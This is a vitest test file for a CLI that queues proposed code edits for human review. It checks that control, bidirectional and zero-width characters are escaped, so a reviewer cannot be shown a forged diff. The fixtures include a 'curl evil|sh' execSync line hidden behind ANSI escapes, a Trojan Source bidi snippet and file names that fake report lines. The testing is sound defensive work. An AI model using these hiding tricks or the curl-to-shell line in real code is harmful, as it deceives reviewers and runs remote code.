// What the reviewer sees cannot be forged (issue 9, item 2), and a large rewrite is proposed with
// a bounded diff (item 3) — checked on the built CLI (dist/cli.js; run `npm run build` first).
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { modify, tempWorkspace, type TempWorkspace } from '../core/testing/tempWorkspace';
import { parseJson, prepareCli, type Cli, type CliResult } from '../core/testing/cli';
import type { Proposal } from '../core/proposals/model';

let cli: Cli;
let ws: TempWorkspace | undefined;

beforeAll(() => {
  cli = prepareCli();
});
afterAll(() => cli?.dispose());
afterEach(() => {
  ws?.cleanup();
  ws = undefined;
});

function rusty(w: TempWorkspace, args: string[]): Promise<CliResult> {
  return cli.run([...args, '-w', w.root], { env: { RUSTY_STATE_DIR: w.stateRoot } });
}

function changeSetFile(w: TempWorkspace, set: unknown): string {
  const file = path.join(path.dirname(w.root), 'cs.json');
  fs.writeFileSync(file, JSON.stringify(set));
  return file;
}

/** Nothing that drives a terminal: no C0 control but tab and newline, no DEL or C1, no bidi control, no zero-width space. */
function expectTerminalSafe(r: CliResult): void {
  const bad = (cp: number) => (cp < 0x20 && cp !== 0x09 && cp !== 0x0a) || (cp >= 0x7f && cp <= 0x9f) || (cp >= 0x202a && cp <= 0x202e) || (cp >= 0x2066 && cp <= 0x2069) || cp === 0x200b;
  for (const text of [r.stdout, r.stderr]) expect([...text].filter((ch) => bad(ch.codePointAt(0)!)).map((ch) => ch.codePointAt(0))).toEqual([]);
}

const FORGED = 'require(\'child_process\').execSync(\'curl evil|sh\'); \u001b[2K\u001b[1G+// harmless comment';
const TROJAN = 'const isAdmin = false; /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */';

describe('untrusted text in the terminal', () => {
  it('list, show --diff, approve and rollback escape control characters and show hidden ones as <U+XXXX>', async () => {
    const w = (ws = tempWorkspace({ 'a.js': 'const a = 1;\n' }));
    const set = {
      title: 'Tidy\u001b[2K\r\u0007 up\nfake title line',
      rationale: 'Line one\nline two \u001b]0;owned\u0007',
      source: 'agent\u009b31m',
      edits: [
        modify(w, 'a.js', `const a = 1;\n${FORGED}\n${TROJAN}\n`),
        { kind: 'create', path: 'x\n    evil.ts (create)  +1 -0', content: 'x\n' },
        { kind: 'create', path: 'b\u200B.js', content: 'ok\n' },
      ],
    };
    const sub = await rusty(w, ['submit', changeSetFile(w, set)]);
    expect(sub.code, sub.stderr).toBe(0);
    expectTerminalSafe(sub);

    const list = await rusty(w, ['list']);
    expect(list.code, list.stderr).toBe(0);
    expectTerminalSafe(list);
    const lines = list.stdout.trimEnd().split('\n');
    // One header line, three file lines, one warning line: the path's newline made no line of its own.
    expect(lines).toHaveLength(5);
    expect(lines[0]).toContain('Tidy\\x1b[2K\\r\\x07 up\\nfake title line');
    expect(lines[0]).toContain('agent\\x9b31m');
    expect(lines.filter((l) => l.includes('evil.ts'))).toEqual(['    x\\n    evil.ts (create)  +1 -0 (create)  +1 -0']);
    expect(lines).toContain('    b<U+200B>.js (create)  +1 -0');
    expect(lines[4]).toMatch(/⚠ \d warnings: .*bidirectional characters/);

    const id = parseJson<{ proposals: { id: string }[] }>(await cli.run(['list', '--json', '-w', w.root], { env: { RUSTY_STATE_DIR: w.stateRoot } })).proposals[0]!.id;
    const show = await rusty(w, ['show', id, '--diff']);
    expect(show.code, show.stderr).toBe(0);
    expectTerminalSafe(show);
    const out = show.stdout.split('\n');
    expect(out).not.toContain('+// harmless comment');
    expect(out).toContain('+require(\'child_process\').execSync(\'curl evil|sh\'); \\x1b[2K\\x1b[1G+// harmless comment');
    expect(out).toContain('+const isAdmin = false; /*<U+202E> } <U+2066>if (isAdmin)<U+2069> <U+2066> begin admins only */');
    expect(out).toContain('+++ b/x\\n    evil.ts (create)  +1 -0');
    expect(show.stdout).toContain('Line one\nline two \\x1b]0;owned\\x07');
    const warnings = out.slice(out.indexOf('Warnings:') + 1, out.indexOf('Warnings:') + 8).filter((l) => l.startsWith('  ⚠'));
    expect(warnings.join('\n')).toMatch(/a\.js: 1 added line contains bidirectional control characters \(U\+202E, U\+2066, U\+2069\), line 3\. The code may run differently/);
    expect(warnings.join('\n')).toMatch(/a\.js: 1 added line contains control characters \(U\+001B\), line 2\./);
    expect(warnings.join('\n')).toMatch(/The path "b<U\+200B>\.js" contains invisible characters: U\+200B\./);
    expect(warnings.join('\n')).toMatch(/The title contains control characters/);

    // JSON keeps the exact text (JSON escapes controls itself) and carries the warnings.
    const json = parseJson<Proposal & { diff: string }>(await cli.run(['show', id, '--diff', '--json', '-w', w.root], { env: { RUSTY_STATE_DIR: w.stateRoot } }));
    expect(json.title).toBe('Tidy\u001b[2K\r\u0007 up\nfake title line');
    expect(json.diff).toContain(`+${FORGED}`);
    expect(json.warnings!.map((x) => `${x.kind}:${x.in}:${x.path ?? ''}`).sort()).toEqual([
      'bidi:content:a.js', 'control:content:a.js', 'control:path:x\n    evil.ts (create)  +1 -0', 'control:rationale:', 'control:title:', 'invisible:path:b\u200B.js',
    ]);

    const approve = await rusty(w, ['approve', id]);
    expect(approve.code, approve.stderr).toBe(0);
    expectTerminalSafe(approve);
    expect(approve.stdout).toContain('  x\\n    evil.ts (create)  +1 -0\n');
    expect(fs.readFileSync(path.join(w.root, 'a.js'), 'utf8')).toBe(`const a = 1;\n${FORGED}\n${TROJAN}\n`);
    const rollback = await rusty(w, ['rollback', id]);
    expect(rollback.code, rollback.stderr).toBe(0);
    expectTerminalSafe(rollback);
    expect(rollback.stdout).toContain('  b<U+200B>.js\n');
  });

  it('an error quoting an untrusted name is one escaped line', async () => {
    const w = (ws = tempWorkspace({ 'a.js': 'a\n' }));
    const sub = await rusty(w, ['submit', changeSetFile(w, { title: 't', source: 's', edits: [modify(w, 'a.js', 'b\n')] })]);
    expect(sub.code, sub.stderr).toBe(0);
    const id = /Queued (\S+)/.exec(sub.stdout)![1]!;
    const r = await rusty(w, ['approve', id, '--files', 'nope\u001b[31m.js']);
    expect(r.code).toBe(1);
    expectTerminalSafe(r);
    expect(r.stderr).toBe(`rusty: Proposal ${id} has no file nope\\x1b[31m.js; its files are a.js.\n`);
  });

  it('analyze escapes each name on its own line: a newline in an export name cannot add a fake line', async () => {
    const w = (ws = tempWorkspace({
      'package.json': JSON.stringify({ name: 'x', main: 'src/index.ts' }),
      'src/index.ts': "import { used } from './lib';\nexport const x = used;\n",
      // an export name is any string (ES2022): this one holds a newline and a fake report line
      'src/lib.ts': 'export const used = 1;\nconst v = 2;\nexport { v as "evil\\n  src/fake.ts:1  harmless" };\n',
      'src/esc\u001b[2K\r+ok.ts': 'export const unused = 2;\n',
      'src/rtl\u202Ets.ts': 'export const other = 3;\n',
    }));
    const r = await rusty(w, ['analyze', '--syntactic']);
    expect(r.code, r.stderr).toBe(0);
    expectTerminalSafe(r);
    const lines = r.stdout.split('\n');
    expect(lines.filter((l) => l.includes('src/fake.ts'))).toEqual(['  src/lib.ts:3  evil\\n  src/fake.ts:1  harmless  (variable)']);
    const listed = lines.slice(lines.indexOf('Unused files (2):') + 1).filter(Boolean);
    expect(listed).toEqual(['  src/esc\\x1b[2K\\r+ok.ts', '  src/rtl<U+202E>ts.ts']);
  });
});

describe('large rewrites', () => {
  it('a 20,000-line full rewrite is proposed with a simplified diff, said so, and approve writes exactly the new bytes', async () => {
    const n = 20_000;
    const before = Array.from({ length: n }, (_, i) => `const a${i} = ${i};`).join('\r\n') + '\r\n';
    const after = Array.from({ length: n }, (_, i) => `let b${i} = ${i * 2};`).join('\n') + '\n';
    const w = (ws = tempWorkspace({ 'big.ts': before }));
    const sub = await cli.run(['submit', changeSetFile(w, { title: 'Rewrite', source: 'test', edits: [modify(w, 'big.ts', after)] }), '--json', '-w', w.root], { env: { RUSTY_STATE_DIR: w.stateRoot }, timeoutMs: 120_000 });
    expect(sub.code, sub.stderr).toBe(0);
    const { id } = parseJson<{ id: string }>(sub);
    const p = parseJson<Proposal>(await cli.run(['show', id, '--json', '-w', w.root], { env: { RUSTY_STATE_DIR: w.stateRoot } }));
    expect(p.warnings).toEqual([expect.objectContaining({ kind: 'diff-simplified', path: 'big.ts', message: expect.stringMatching(/^big\.ts: diff simplified: .*\(−20000 \+20000\); shown as 1 hunk /) })]);
    expect(p.files[0]).toMatchObject({ added: n, removed: n });
    const show = await rusty(w, ['show', id]);
    expect(show.stdout).toMatch(/Warnings:\n {2}⚠ big\.ts: diff simplified/);

    // Partial approval by hunk id on the simplified hunk writes the new text in the file's own CRLF.
    const approve = await cli.run(['approve', id, '--hunks', p.files[0]!.hunks[0]!.id, '--json', '-w', w.root], { env: { RUSTY_STATE_DIR: w.stateRoot }, timeoutMs: 120_000 });
    expect(approve.code, approve.stderr).toBe(0);
    expect(fs.readFileSync(path.join(w.root, 'big.ts'), 'utf8')).toBe(after.replace(/\n/g, '\r\n'));
  });
});
